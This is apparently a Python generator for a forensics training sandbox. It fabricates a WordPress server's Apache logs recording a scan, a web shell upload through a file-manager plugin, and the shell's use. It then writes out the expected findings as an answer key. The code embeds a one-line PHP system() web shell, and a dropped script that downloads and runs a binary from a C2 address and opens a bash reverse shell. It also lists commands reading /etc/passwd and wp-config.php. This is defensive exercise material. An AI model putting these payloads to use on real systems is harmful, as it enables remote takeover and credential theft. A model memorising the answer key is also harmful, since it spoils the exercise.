"""Generator of webshell-upload: a WordPress host's Apache logs of a scan, a shell upload and its use."""

# Paths under /tmp are inside the sandbox host; the random generator only makes data repeatable.
# ruff: noqa: S108, S311

from __future__ import annotations

import random
import re
from collections import Counter, defaultdict
from datetime import datetime, timedelta
from urllib.parse import quote, quote_plus, unquote_plus

from sandbox.accesslog import AccessLine, ErrorLine, file_of, last_access_times, write_rotated_access
from sandbox.filetimes import Stamp, stamp_tree
from sandbox.findings import AttackerFile
from sandbox.hostfiles import directory, merged_accounts, put, write_accounts
from sandbox.scenario import HostContext, PlannedHost
from sandbox.web_findings import ClientRole, ShellCommand, WebClient, WebShellFindings, WebShellUpload
from sandbox.webtraffic import FIREFOX, GOBUSTER, NIKTO, benign_traffic, scanner_burst

NAME = "webshell-upload"
SERVER = "198.51.100.80"
SCANNERS = (("203.0.113.21", NIKTO), ("203.0.113.22", GOBUSTER))
UPLOADER, UPLOADER_AGENT = "192.0.2.44", "python-requests/2.31.0"
# (client, user agent, encoder): a browser sends %20, curl's --data-urlencode here a `+`.
OPERATORS = (("198.51.100.77", FIREFOX, "percent"), ("192.0.2.150", "curl/8.5.0", "plus"))
C2_HOST, C2_PORT = "203.0.113.66", 4444
PARAM = "c"
WEBROOT = "/var/www/html"
CONNECTOR = "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"
SCRIPT = "/tmp/.k.sh"
# (operator index, command), in the order they were sent.
COMMANDS = (
    (0, "id"),
    (0, "uname -a"),
    (0, "whoami"),
    (0, "cat /etc/passwd"),
    (0, f"wget http://{C2_HOST}/k.sh -O {SCRIPT}"),
    (0, f"chmod +x {SCRIPT}"),
    (0, f"bash {SCRIPT}"),
    (1, "ls -la /tmp"),
    (1, "ps aux"),
    (1, f"cat {WEBROOT}/wp-config.php"),
)
SCAN_AGO, SECOND_OPERATOR_AFTER = timedelta(hours=30), timedelta(hours=6)
CUT_OLD_H, CUT_NEW_H, BENIGN_DAYS, BOOT_DAYS = 72, 24, 5, 9
PREFORK_PID = 812
SHELL_PHP = f"<?php system($_GET['{PARAM}']); ?>\n"
DROPPED = (
    "#!/bin/bash\n"
    "cd /tmp || exit 0\n"
    f"wget -q http://{C2_HOST}/bins/x86_64 -O /tmp/.x86 ||\n"
    f"  curl -fsSL http://{C2_HOST}/bins/x86_64 -o /tmp/.x86\n"
    "chmod +x /tmp/.x86 && nohup /tmp/.x86 >/dev/null 2>&1 &\n"
    f"bash -i >& /dev/tcp/{C2_HOST}/{C2_PORT} 0>&1\n"
)
SITE = (
    "<VirtualHost *:80>\n\tServerName www.example.org\n\tDocumentRoot /var/www/html\n"
    "\t# Resolved names land in %h: some clients appear as host names in access.log.\n"
    "\tHostnameLookups On\n\tErrorLog ${APACHE_LOG_DIR}/error.log\n"
    "\tCustomLog ${APACHE_LOG_DIR}/access.log combined\n</VirtualHost>\n"
)
WEB_FILES = {
    "index.php": "<?php define('WP_USE_THEMES', true); require __DIR__ . '/wp-blog-header.php';\n",
    "wp-login.php": "<?php require __DIR__ . '/wp-load.php'; /* login form */\n",
    "wp-config.php": "<?php define('DB_NAME', 'wordpress'); define('DB_USER', 'wp');\n",
    "contact.php": "<?php /* contact form: mails the site owner */\n",
    "tools/whois.php": "<?php /* whois lookup of ?q= */\n",
    "robots.txt": "User-agent: *\nDisallow: /wp-admin/\n",
    ".htaccess": "RewriteEngine On\nRewriteRule . /index.php [L]\n",
    "wp-content/themes/twentytwentyfour/style.css": "/* Theme Name: Twenty Twenty-Four */\n",
    "wp-content/plugins/wp-file-manager/readme.txt": "=== File Manager ===\nStable tag: 6.0\n",
    "wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php": "<?php /* elFinder connector */\n",
    "wp-includes/js/jquery/jquery.min.js": "/*! jQuery v3.7.1 */\n",
}
IPV4 = re.compile(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
URL = re.compile(r"https?://[^\s'\"|;&]+")
REVERSE = re.compile(r"/dev/tcp/([\d.]+)/(\d+)")


def _encode(command: str, how: str) -> str:
    return quote_plus(command, safe="") if how == "plus" else quote(command, safe="")


def _attack(
    rng: random.Random, now: datetime, shell_url: str
) -> tuple[list[AccessLine], AccessLine, list[AccessLine]]:
    """Scanner bursts, the upload, the operators' requests: (all lines, the upload, the commands sent)."""
    start = now - SCAN_AGO
    lines = scanner_burst(rng, start, *SCANNERS[0]) + scanner_burst(
        rng, start + timedelta(minutes=9), *SCANNERS[1]
    )
    upload_at = start + timedelta(minutes=40)
    probe = f"{CONNECTOR.rsplit('/lib/', 1)[0]}/readme.txt"
    upload = AccessLine(upload_at, UPLOADER, "POST", CONNECTOR, 200, 312, "-", UPLOADER_AGENT)
    lines += [
        AccessLine(upload_at - timedelta(seconds=3), UPLOADER, "GET", probe, 200, 4117, "-", UPLOADER_AGENT),
        upload,
        # The uploader checks the shell without a command: PHP warns and fails in error.log.
        AccessLine(upload_at + timedelta(seconds=2), UPLOADER, "GET", shell_url, 500, 0, "-", UPLOADER_AGENT),
    ]
    sent: list[AccessLine] = []
    at = {0: upload_at + timedelta(minutes=6), 1: upload_at + SECOND_OPERATOR_AFTER}
    for who, command in COMMANDS:
        client, agent, how = OPERATORS[who]
        target = f"{shell_url}?{PARAM}={_encode(command, how)}"
        line = AccessLine(at[who], client, "GET", target, 200, rng.randint(20, 3000), "-", agent)
        sent.append(line)
        at[who] += timedelta(seconds=rng.randint(40, 200))
    return lines + sent, upload, sent


def _error_log(rng: random.Random, now: datetime, attack: list[AccessLine], shell: str) -> list[ErrorLine]:
    """Daily restarts after logrotate, the scanners' denials, the shell's PHP warning and fatal error."""
    lines: list[ErrorLine] = []
    for day in range(BENIGN_DAYS, -1, -1):
        at = (now - timedelta(days=day)).replace(
            hour=0, minute=0, second=2, microsecond=rng.randint(0, 999999)
        )
        if at < now:
            lines.append(
                ErrorLine(
                    at,
                    "mpm_prefork",
                    "notice",
                    PREFORK_PID,
                    "AH00163: Apache/2.4.62 (Debian) configured -- resuming normal operations",
                )
            )
            lines.append(
                ErrorLine(at, "core", "notice", PREFORK_PID, "AH00094: Command line: '/usr/sbin/apache2'")
            )
    for line in attack:
        client = f"{line.client}:{rng.randint(32768, 60999)}"
        pid, when = rng.randint(2000, 9000), line.when.replace(microsecond=rng.randint(0, 999999))
        if line.status == 403:
            denied = f"{WEBROOT}{line.target}"
            lines.append(
                ErrorLine(
                    when,
                    "authz_core",
                    "error",
                    pid,
                    f"AH01630: client denied by server configuration: {denied}",
                    client,
                )
            )
        elif line.status == 500:
            lines.append(
                ErrorLine(
                    when,
                    "php",
                    "warn",
                    pid,
                    f'PHP Warning:  Undefined array key "{PARAM}" in {shell} on line 1',
                    client,
                )
            )
            lines.append(
                ErrorLine(
                    when,
                    "php",
                    "error",
                    pid,
                    "PHP Fatal error:  Uncaught ValueError: system(): "
                    f"Argument #1 ($command) cannot be empty in {shell}:1\\nStack trace:\\n"
                    f"#0 {shell}(1): system('')\\n#1 {{main}}\\n  thrown in {shell} on line 1",
                    client,
                )
            )
    return lines


def _raw_wget(when: datetime, url: str) -> list[str]:
    # system()'s child writes its stderr straight into error.log, without Apache's prefix.
    return [
        f"--{when:%Y-%m-%d %H:%M:%S}--  {url}",
        f"Connecting to {C2_HOST}:80... connected.",
        "HTTP request sent, awaiting response... 200 OK",
        f"Saving to: '{SCRIPT}'",
    ]


def _clients(lines: list[AccessLine], roles: dict[str, ClientRole]) -> tuple[WebClient, ...]:
    by_client: dict[str, list[AccessLine]] = defaultdict(list)
    for line in lines:
        by_client[line.client].append(line)
    return tuple(
        WebClient(
            client=client,
            requests=len(mine),
            user_agents=tuple(sorted({line.agent for line in mine})),
            role=roles.get(client, "benign"),
            statuses=dict(sorted(Counter(line.status for line in mine).items())),
        )
        for client, mine in sorted(by_client.items())
    )


def generate(ctx: HostContext) -> PlannedHost:
    """Write the host's files under ctx.tree; return what to expect (no processes to start)."""
    rng = random.Random(ctx.seed * 100 + ctx.index)
    now = ctx.now.replace(microsecond=0)
    cuts = (now - timedelta(hours=CUT_OLD_H), now - timedelta(hours=CUT_NEW_H))
    upload_at = now - SCAN_AGO + timedelta(minutes=40)
    # WordPress files an upload under the year and month it arrived.
    shell_url = f"/wp-content/uploads/{upload_at:%Y/%m}/thumb.php"
    shell = f"{WEBROOT}{shell_url}"
    benign = benign_traffic(rng, now - timedelta(days=BENIGN_DAYS), now - timedelta(minutes=10), SERVER)
    attack, upload, sent = _attack(rng, now, shell_url)
    every = benign + attack
    log_dir = ctx.path("/var/log/apache2")
    directory(log_dir, 0o750)
    rendered = write_rotated_access(log_dir, "access.log", every, cuts)
    commands = tuple(
        ShellCommand(
            timestamp=line.when,
            client=line.client,
            encoded=line.target.split(f"?{PARAM}=", 1)[1],
            command=unquote_plus(line.target.split(f"?{PARAM}=", 1)[1]),
            log_file=f"/var/log/apache2/{file_of(line.when, 'access.log', cuts)}",
        )
        for line in sent
    )
    fetched = next(c for c in commands if c.command.startswith("wget "))
    errors = [(e.when, e.render()) for e in _error_log(rng, now, attack, shell)]
    errors += [
        (fetched.timestamp, raw) for raw in _raw_wget(fetched.timestamp, URL.findall(fetched.command)[0])
    ]
    errors.sort(key=lambda pair: pair[0])
    put(log_dir / "error.log", "".join(f"{text}\n" for _, text in errors), 0o640)

    for relative, content in WEB_FILES.items():
        put(ctx.path(f"{WEBROOT}/{relative}"), content, 0o644, 33)
    directory(ctx.path(f"{WEBROOT}/wp-content/uploads"), 0o755, 33)
    directory(ctx.path(shell.rsplit("/", 1)[0]), 0o755, 33)
    put(ctx.path(shell), SHELL_PHP, 0o644, 33)
    put(ctx.path(SCRIPT), DROPPED, 0o755, 33)
    put(ctx.path("/etc/apache2/sites-enabled/000-default.conf"), SITE)
    put(ctx.path("/etc/hostname"), f"{ctx.hostname}\n")
    directory(ctx.path("/etc/ssh"))
    directory(ctx.path("/tmp"), 0o1777)
    directory(ctx.path("/root/.ssh"), 0o700)
    put(ctx.path("/root/.ssh/authorized_keys"), f"{ctx.client_public} sleuth-sandbox\n", 0o600)
    write_accounts(ctx.path("/etc"), merged_accounts([]))

    changed = (
        AttackerFile(path=shell, mtime=upload.when, change="created", sudo_command=None, persistence=False),
    )
    dropped = AttackerFile(
        path=SCRIPT, mtime=fetched.timestamp, change="created", sudo_command=None, persistence=False
    )
    stamps = {a.path: Stamp(a.mtime, True) for a in (*changed, dropped)}
    # The upload created its year and month folders; /tmp is a tmpfs from the last boot.
    stamps[shell.rsplit("/", 1)[0]] = stamps[shell.rsplit("/", 2)[0]] = Stamp(upload.when, True)
    stamps["/tmp"] = Stamp(now - timedelta(days=BOOT_DAYS, minutes=7), True)
    last = last_access_times(every, "access.log", cuts) | {"error.log": errors[-1][0]}
    stamps |= {f"/var/log/apache2/{name}": Stamp(when, False) for name, when in last.items()}
    stamp_tree(ctx.tree, now, stamps)

    roles: dict[str, ClientRole] = {c: "scanner" for c, _ in SCANNERS}
    roles[UPLOADER] = "uploader"
    roles |= {c: "operator" for c, *_ in OPERATORS}
    clients = _clients(every, roles)
    texts = [text for lines in rendered.values() for text in lines]
    client_names = {c.client for c in clients}
    c2_host, c2_port = REVERSE.findall(DROPPED)[0]
    findings = WebShellFindings(
        scenario=NAME,
        hostname=ctx.hostname,
        generated_at=now,
        server_address=SERVER,
        attacker_ips=tuple(sorted(c.client for c in clients if c.role != "benign")),
        scanner_clients=tuple(sorted(c.client for c in clients if c.role == "scanner")),
        operator_clients=tuple(sorted({c.client for c in commands})),
        benign_clients=tuple(sorted(c.client for c in clients if c.role == "benign")),
        decoy_addresses=tuple(sorted({ip for text in texts for ip in IPV4.findall(text)} - client_names)),
        clients=clients,
        probe_paths=tuple(sorted({a.target for a in attack if roles.get(a.client) == "scanner"})),
        shell_path=shell,
        shell_url_path=shell_url,
        shell_parameter=PARAM,
        upload=WebShellUpload(
            timestamp=upload.when, client=upload.client, request=upload.request, line=upload.render()
        ),
        commands=commands,
        download_urls=tuple(
            sorted({u for text in (*(c.command for c in commands), DROPPED) for u in URL.findall(text)})
        ),
        c2=f"{c2_host}:{c2_port}",
        dropped_script=SCRIPT,
        changed_web_files=changed,
        attacker_files=(*changed, dropped),
        access_lines={f"/var/log/apache2/{name}": len(lines) for name, lines in rendered.items()},
        error_log_shell_lines=sum(shell in text for _, text in errors),
    )
    return PlannedHost(processes=(), findings=findings, exe_sha256={})
